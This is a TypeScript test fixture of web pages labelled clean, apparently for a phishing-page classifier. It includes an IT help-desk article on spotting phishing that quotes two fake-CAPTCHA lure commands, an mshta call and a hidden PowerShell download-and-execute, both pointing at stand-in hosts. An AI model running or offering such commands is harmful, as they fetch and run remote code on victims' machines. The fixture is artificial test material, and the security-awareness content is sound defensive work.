import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, jsRoute, keyOf, MS_CSS, MS_SQUARES, msCard, qrSvg, tok, tok64 } from '../parts/yo-kit.js';

// Cleared content pages: IT knowledge-base articles and security write-ups that quote attacks, checkouts,
// hosted invoices, a crypto app, secure-message portals, web apps that build files in the browser,
// Microsoft's own device-code, consent and Authenticator pages, and a parked look-alike domain.

export const entries: Entry[] = [
{
  id: 'yo-ok-kb-spot-phishing-clickfix',
  label: 'clean',
  kind: 'it-kb-article',
  url: 'https://helpdesk.lakeshoremfg.com/kb/KB0012044-how-to-spot-and-report-phishing',
  body: doc({
    title: 'KB0012044 – How to spot and report phishing | Lakeshore IT Help Center',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;color:#1f2933;background:#f7f9fb}.hd{background:#203a5c;color:#fff;padding:14px 30px;font-weight:600}
article{max-width:820px;margin:30px auto;background:#fff;padding:30px 40px;border-radius:6px;line-height:1.6}pre{background:#1e1e1e;color:#dcdcdc;padding:12px;border-radius:4px;overflow:auto;font-size:13px}
.ex{border:1px dashed #c53030;background:#fff5f5;padding:12px 16px;border-radius:4px;font-size:14px}.meta{color:#6b7785;font-size:13px}table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #e1e5ea;padding:6px 8px;text-align:left}`,
    body: `<div class="hd">Lakeshore IT Help Center</div><article><p class="meta">KB0012044 &middot; Security &middot; Updated October 2, 2024 &middot; Audience: all employees</p>
<h1>How to spot and report phishing</h1>
<p>Attackers send email that looks like it comes from Microsoft, DocuSign, HR or our suppliers. This article shows the lures we saw most this quarter and what to do.</p>
<h2>1. "Sign in to view the document"</h2><div class="ex"><b>Example we received:</b> "Melissa Grant shared <i>2025 Salary Increase &amp; Bonus Schedule.xlsx</i> with you &ndash; Open". The link went to a copy of the Microsoft sign-in page on a domain that was not <code>login.microsoftonline.com</code>.</div>
<p>Our real Microsoft 365 sign-in always shows <b>login.microsoftonline.com</b> in the address bar, followed by our Okta page at <b>lakeshoremfg.okta.com</b>. If you see anything else, close the tab.</p>
<h2>2. Fake "I'm not a robot" pages that ask you to run a command</h2>
<div class="ex">A page says "Verification steps: Press Windows + R, press CTRL + V, press Enter". The page has already copied a command like this to your clipboard:</div>
<pre>mshta https://check-human.example/captcha.hta # I am not a robot - reCAPTCHA Verification ID: 7731
powershell -w hidden -c "iex(irm https://example.invalid/a.ps1)"</pre>
<p><b>No legitimate website ever asks you to paste something into the Run dialog, PowerShell or Terminal.</b> If you did it, unplug the network cable and call the Service Desk immediately.</p>
<h2>3. Supplier bank-detail changes</h2><p>Any request to change a supplier's bank account must be verified by calling the supplier on the number in our vendor master file &ndash; never the number in the email.</p>
<h2>How to report</h2><table><tr><th>Where</th><th>How</th></tr><tr><td>Outlook (desktop / web)</td><td>Select the message &rarr; <b>Report</b> &rarr; <b>Report phishing</b></td></tr><tr><td>Mobile</td><td>Forward as attachment to phishing@lakeshoremfg.com</td></tr><tr><td>Clicked or entered your password?</td><td>Call the Service Desk: ext. 2200 (24/7)</td></tr></table></article>`,
  }),
},
{
  id: 'yo-ok-kb-teams-cache-powershell',
  label: 'clean',
  kind: 'it-kb-article',
  url: 'https://it.kirbynetworks.com/kb/teams/clear-new-teams-cache',
  body: doc({
    title: 'Clear the new Microsoft Teams cache (Windows) - Kirby Networks IT',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;color:#1c2430;background:#fff}.hd{border-bottom:1px solid #e5e8ec;padding:14px 30px;font-weight:600;color:#0f5e9c}
main{max-width:820px;margin:30px auto;padding:0 20px;line-height:1.65}.code{position:relative;background:#012456;color:#eee;border-radius:6px;padding:14px 16px;font-family:Consolas,monospace;font-size:13px;white-space:pre-wrap;margin:10px 0 18px}
.code button{position:absolute;top:8px;right:8px;background:#2b5797;color:#fff;border:0;border-radius:3px;font-size:12px;padding:4px 10px;cursor:pointer}.note{background:#fff8e1;border-left:4px solid #f0b400;padding:10px 14px;font-size:14px}`,
    body: `<div class="hd">Kirby Networks IT &middot; Knowledge Base</div><main><h1>Clear the new Microsoft Teams cache on Windows</h1>
<p>Use these steps when Teams shows a blank window, stale presence or an old profile picture. You do <b>not</b> need admin rights. If you are not comfortable with PowerShell, open a ticket and we will do it for you remotely.</p>
<div class="note">This article is only published on <b>it.kirbynetworks.com</b>. The Service Desk will never send you commands in a chat from an external tenant.</div>
<h2>Step 1 &ndash; Quit Teams</h2><div class="code"><button data-copy>Copy</button>Get-Process ms-teams -ErrorAction SilentlyContinue | Stop-Process -Force</div>
<h2>Step 2 &ndash; Remove the cache folder</h2><div class="code"><button data-copy>Copy</button>Remove-Item -Path "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams" -Recurse -Force</div>
<h2>Step 3 &ndash; Start Teams again</h2><div class="code"><button data-copy>Copy</button>Start-Process "ms-teams:"</div>
<p>Teams rebuilds the cache on first start; sign-in may take a minute. Still broken? Reset the app from <b>Settings &rarr; Apps &rarr; Installed apps &rarr; Microsoft Teams &rarr; Advanced options &rarr; Reset</b>.</p>
<p style="font-size:13px;color:#6a7685">Last reviewed: September 2024 by Endpoint Engineering.</p></main>
<script>
Array.prototype.forEach.call(document.querySelectorAll("[data-copy]"),function(b){b.addEventListener("click",function(){var t=b.parentNode.textContent.replace(/^Copy/,"").trim();navigator.clipboard.writeText(t).then(function(){b.textContent="Copied";setTimeout(function(){b.textContent="Copy"},1500)})})});
</script>`,
  }),
},
(() => {
  const host = 'billing.tealpoint.io';
  return {
    id: 'yo-ok-saas-checkout-card',
    label: 'clean',
    kind: 'checkout-own-domain',
    url: `https://${host}/checkout/business-annual?seats=25&coupon=WEBINAR24`,
    routes: {
      [`${host}/checkout/business-annual`]: htmlRoute(
        doc({
          title: 'Checkout – Tealpoint Business (annual)',
          head: `<script src="https://js.stripe.com/v3/"></script>`,
          css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#f6f8fa;color:#1c2430}.w{max-width:960px;margin:40px auto;display:grid;grid-template-columns:1fr 1fr;gap:30px;padding:0 20px}
.box{background:#fff;border-radius:10px;padding:26px;box-shadow:0 1px 3px rgba(0,0,0,.08)}label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;height:40px;border:1px solid #c9d0d8;border-radius:6px;padding:0 10px;font-size:14px}#card-element{border:1px solid #c9d0d8;border-radius:6px;padding:11px 10px;min-height:18px}
button{width:100%;height:46px;border:0;border-radius:6px;background:#0fa3a3;color:#fff;font-weight:700;font-size:15px;margin-top:18px}.l{display:flex;justify-content:space-between;padding:8px 0;border-bottom:1px solid #eef0f3;font-size:14px}`,
          body: `<div class="w"><div class="box"><h2 style="margin-top:0">Tealpoint Business &ndash; annual</h2><div class="l"><span>25 seats &times; $96.00</span><span>$2,400.00</span></div><div class="l"><span>Coupon WEBINAR24 (&minus;15%)</span><span>&minus;$360.00</span></div><div class="l"><b>Total due today</b><b>$2,040.00</b></div>
<p style="font-size:13px;color:#6a7685">Renews on October 8, 2025. Cancel anytime from Settings &rarr; Billing. Prices in USD, taxes calculated at checkout.</p></div>
<div class="box"><form id="payment-form"><label>Billing email</label><input type="email" name="email" required><label>Company name</label><input name="company" required><label>Card</label><div id="card-element"><input id="cc-fallback" placeholder="Card number" autocomplete="cc-number" inputmode="numeric" style="border:0;height:18px;padding:0"></div>
<label>Cardholder name</label><input name="name" autocomplete="cc-name" required><label>Billing ZIP / postal code</label><input name="postal" autocomplete="postal-code" required>
<button type="submit" id="submit">Pay $2,040.00</button><p style="font-size:12px;color:#6a7685;text-align:center">&#128274; Payments processed by Stripe. Tealpoint never stores your card number.</p></form></div></div>
<script>
var stripe=window.Stripe?Stripe("pk_live_51Hq${tok64('stpk', 40)}"):null;
if(stripe){var el=stripe.elements().create("card");document.getElementById("card-element").innerHTML="";el.mount("#card-element")}
document.getElementById("payment-form").addEventListener("submit",function(e){e.preventDefault();fetch("/checkout/api/create-intent",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({plan:"business-annual",seats:25,coupon:"WEBINAR24",email:this.email.value})}).then(function(r){return r.json()}).then(function(j){if(stripe&&j.client_secret){stripe.confirmCardPayment(j.client_secret,{payment_method:{card:el}})}})});
</script>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-ok-stripe-hosted-invoice',
  label: 'clean',
  kind: 'hosted-invoice',
  url: 'https://invoice.stripe.com/i/acct_1Jq8' + tok64('stacct', 12) + '/live_YWNjdF8xSnE4' + tok64('stinv', 80) + '?s=em',
  body: doc({
    title: 'Pinecrest Landscaping LLC – Invoice',
    css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#f6f9fc;color:#1a1f36}.w{max-width:420px;margin:40px auto}.c{background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 5px rgba(60,66,87,.08),0 1px 1px rgba(0,0,0,.12)}
.amt{font-size:34px;font-weight:600;margin:8px 0}.r{display:flex;justify-content:space-between;font-size:14px;padding:6px 0;color:#3c4257}.b{display:block;text-align:center;background:#635bff;color:#fff;text-decoration:none;border-radius:6px;padding:12px;font-weight:600;margin-top:20px}
.f{text-align:center;font-size:12px;color:#8792a2;margin-top:16px}`,
    body: `<div class="w"><div class="c"><div style="font-weight:600">Pinecrest Landscaping LLC</div><div class="amt">$4,482.50</div><div style="color:#697386;font-size:14px">Due October 31, 2024</div>
<div style="margin-top:18px"><div class="r"><span>To</span><span>Kirby Networks</span></div><div class="r"><span>From</span><span>Pinecrest Landscaping LLC</span></div><div class="r"><span>Invoice</span><span>PL-2024-0931</span></div><div class="r"><span>Memo</span><span>Q4 grounds maintenance (Oct&ndash;Dec)</span></div></div>
<a class="b" href="/i/pay${tok64('stpay', 20)}">Pay this invoice</a><div style="text-align:center;margin-top:12px;font-size:14px"><a href="/i/pdf" style="color:#635bff">Download invoice</a> &middot; <a href="/i/receipt" style="color:#635bff">Download receipt</a></div></div>
<div class="f">Questions? Contact Pinecrest Landscaping LLC at billing@pinecrestlandscaping.com or call +1 414-555-0172.<br><br>Powered by <b>stripe</b> &middot; <a href="https://stripe.com/legal/consumer" style="color:#8792a2">Terms</a> &middot; <a href="https://stripe.com/privacy" style="color:#8792a2">Privacy</a></div></div>`,
  }),
},
(() => {
  const host = 'app.lidoswap.finance';
  const js = `(function(){
var btn=document.getElementById("connect"),lbl=document.getElementById("acct"),q=document.getElementById("quote");
function short(a){return a.slice(0,6)+"\\u2026"+a.slice(-4)}
async function connect(){if(!window.ethereum){window.open("https://metamask.io/download/","_blank");return}
 var accs=await ethereum.request({method:"eth_requestAccounts"});lbl.textContent=short(accs[0]);btn.textContent="Connected";
 var chain=await ethereum.request({method:"eth_chainId"});if(chain!=="0x1"){document.getElementById("net").textContent="Wrong network \\u2013 switch to Ethereum in your wallet"}
 var bal=parseInt(await ethereum.request({method:"eth_getBalance",params:[accs[0],"latest"]}),16)/1e18;document.getElementById("bal").textContent="Balance: "+bal.toFixed(4)+" ETH"}
btn.onclick=function(){connect().catch(function(){btn.textContent="Connect wallet"})};
document.getElementById("amt").addEventListener("input",function(){var v=parseFloat(this.value)||0;fetch("/api/quote?in=ETH&out=USDC&amount="+v).then(function(r){return r.json()}).then(function(j){q.textContent=j.out?j.out.toFixed(2):"-";document.getElementById("route").textContent=j.route||""})});
})();`;
  return {
    id: 'yo-ok-dex-swap-connect-wallet',
    label: 'clean',
    kind: 'crypto-app',
    url: `https://${host}/#/swap?inputCurrency=ETH&outputCurrency=0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48`,
    routes: {
      [`${host}/`]: htmlRoute(
        doc({
          title: 'LidoSwap | Swap',
          css: `body{margin:0;background:#f7f8fa;font-family:Inter,Arial,sans-serif;color:#0d111c}.n{display:flex;justify-content:space-between;align-items:center;padding:16px 28px}.n b{font-size:20px;color:#e8006f}
#connect{background:#fde6f1;color:#e8006f;border:0;border-radius:20px;padding:10px 18px;font-weight:600;cursor:pointer}.sw{max-width:460px;margin:50px auto;background:#fff;border-radius:24px;padding:16px;box-shadow:0 4px 16px rgba(0,0,0,.06)}
.f{background:#f5f6fc;border-radius:16px;padding:16px;margin:6px 0}.f input{border:0;background:none;font-size:30px;width:70%;outline:none}.t{float:right;background:#fff;border-radius:16px;padding:6px 12px;font-weight:600}
.go{width:100%;height:56px;border:0;border-radius:20px;background:#e8006f;color:#fff;font-size:18px;font-weight:600;margin-top:8px}.s{font-size:13px;color:#7780a0;padding:4px 8px}`,
          body: `<div class="n"><b>&#129412; LidoSwap</b><span><span id="acct" style="margin-right:10px;font-size:14px"></span><button id="connect">Connect wallet</button></span></div>
<div class="sw"><div style="font-weight:600;padding:4px 8px">Swap</div>
<div class="f"><div class="s">You pay</div><input id="amt" placeholder="0" inputmode="decimal"><span class="t">ETH &#9662;</span><div class="s" id="bal"></div></div>
<div class="f"><div class="s">You receive</div><span style="font-size:30px" id="quote">0</span><span class="t">USDC &#9662;</span><div class="s" id="route"></div></div>
<button class="go" disabled>Enter an amount</button><div class="s" id="net"></div></div>
<p style="text-align:center;font-size:12px;color:#7780a0">LidoSwap never asks for your recovery phrase. Audited by Trail of Bits (2024). <a href="https://docs.lidoswap.finance">Docs</a> &middot; <a href="https://github.com/lidoswap">GitHub</a></p>
<script src="/static/js/app.8f3c1a.js"></script>`,
        }),
      ),
      [`${host}/static/js/app.8f3c1a.js`]: jsRoute(js),
      [`${host}/api/quote`]: jsonRoute({ out: 2431.77, route: 'ETH → USDC via Uniswap v3 0.05%' }),
    },
  } satisfies Entry;
})(),
(() => {
  const login = 'login.microsoftonline.com/common/oauth2/deviceauth?mkt=en-GB';
  return {
    id: 'yo-ok-microsoft-devicelogin',
    label: 'clean',
    kind: 'idp-own-host',
    url: 'https://microsoft.com/devicelogin',
    routes: {
      'microsoft.com/devicelogin': redirectRoute(301, 'https://www.microsoft.com/devicelogin'),
      'www.microsoft.com/devicelogin': redirectRoute(302, `https://${login}`),
      [login]: htmlRoute(
        doc({
          title: 'Enter code',
          css: MS_CSS,
          body: msCard(`<form method="post" action="/common/oauth2/deviceauth" id="f"><div class="title">Enter code</div>
<p class="small">Enter the code displayed on your app or device.</p>
<input type="text" name="otc" id="otc" maxlength="12" autocomplete="off" placeholder="Code" aria-label="Code">
<input type="hidden" name="flowToken" value="AQABAAEAAAAm${tok64('dvft', 60)}"><input type="hidden" name="canary" value="${tok64('dvcan', 50)}">
<div class="small" style="margin-top:8px;color:#505050">Only enter codes that you obtained directly from the app or device you are signing in to. Don't enter codes that someone sent you by email, chat or text message.</div>
<div class="row"><input type="submit" class="btn btn-primary" value="Next"></div></form>`),
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const url = `https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=7b5b2ef8-7c4b-4a0d-9f1c-3b8a6d5e4f21&response_type=code&redirect_uri=https%3A%2F%2Fzoom.us%2Foauth%2Foutlook%2Fcallback&scope=openid%20profile%20offline_access%20Calendars.ReadWrite&state=${tok('zmst', 20)}&prompt=consent`;
  return {
    id: 'yo-ok-entra-consent-zoom-outlook',
    label: 'clean',
    kind: 'idp-own-host',
    url,
    routes: {
      [keyOf(url)]: htmlRoute(
        doc({
          title: 'Permissions requested',
          css: MS_CSS + `\n.perm{list-style:none;padding:0;margin:10px 0 18px}.perm li{padding:6px 0;font-size:14px}.app{display:flex;gap:12px;align-items:center;margin:16px 0}.app i{width:44px;height:44px;background:#0b5cff;display:inline-block;border-radius:8px}`,
          body: msCard(`<div class="small">s.patel@lakeshoremfg.com</div><div class="title">Permissions requested</div>
<div class="app"><i></i><div><b>Zoom for Outlook</b><br><span class="small" style="color:#0067b8">zoom.us</span> <span title="Publisher verified" style="color:#107c10">&#10004; verified</span></div></div>
<div class="small">This app would like to:</div><ul class="perm"><li>&#8964; Have full access to your calendars</li><li>&#8964; Maintain access to data you have given it access to</li><li>&#8964; View your basic profile</li></ul>
<p class="small" style="color:#605e5c">Accepting these permissions means that you allow this app to use your data as specified in their <a href="https://explore.zoom.us/en/terms/">terms of service</a> and <a href="https://explore.zoom.us/en/privacy/">privacy statement</a>. You can change these permissions at https://myapps.microsoft.com. <a href="#">Show details</a></p>
<form method="post" action="/organizations/Consent/Set"><input type="hidden" name="ctx" value="rQQIARAA${tok64('cnctx', 40)}"><input type="hidden" name="flowToken" value="AQABAAEAAAAm${tok64('cnft', 50)}">
<div class="row"><button class="btn btn-secondary" name="acceptConsent" value="false">Cancel</button><button class="btn btn-primary" name="acceptConsent" value="true">Accept</button></div></form>`),
        }),
      ),
    },
  } satisfies Entry;
})(),
];
